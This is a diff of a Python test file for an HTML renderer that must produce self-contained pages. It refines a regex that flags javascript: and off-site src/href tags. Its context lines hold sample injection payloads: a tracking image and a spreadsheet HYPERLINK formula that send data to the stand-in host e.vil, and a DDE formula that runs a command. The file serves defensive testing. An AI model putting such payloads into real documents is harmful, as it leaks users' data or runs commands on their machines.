@@ -26,8 +26,10 @@ IMAGE = "![p](http://e.vil/pixel.png)"
 FORMULA = '=HYPERLINK("http://e.vil/?"&A1,"clic")'
 DDE = "=cmd|' /C calc'!A0"
 
-# A tag holding a javascript: URL, or an src/href to another site (pages are self-contained).
-BAD_TAG = re.compile(r"<[^>]*(javascript:|(src|href)\s*=\s*[\"']?\s*(https?:)?//)[^>]*>", re.I | re.S)
+# A link or source that runs script or reaches another site (pages are self-contained): an href/src
+# whose value starts with javascript:, http(s): or //. Input text inside an escaped attribute
+# value (the alt text of a chart names the district) is text, not a URL.
+BAD_TAG = re.compile(r"<[^>]*\s(src|href)\s*=\s*[\"']?\s*(javascript:|https?:|//)[^>]*>", re.I | re.S)
 
 
 def _render(markdown: str) -> str:
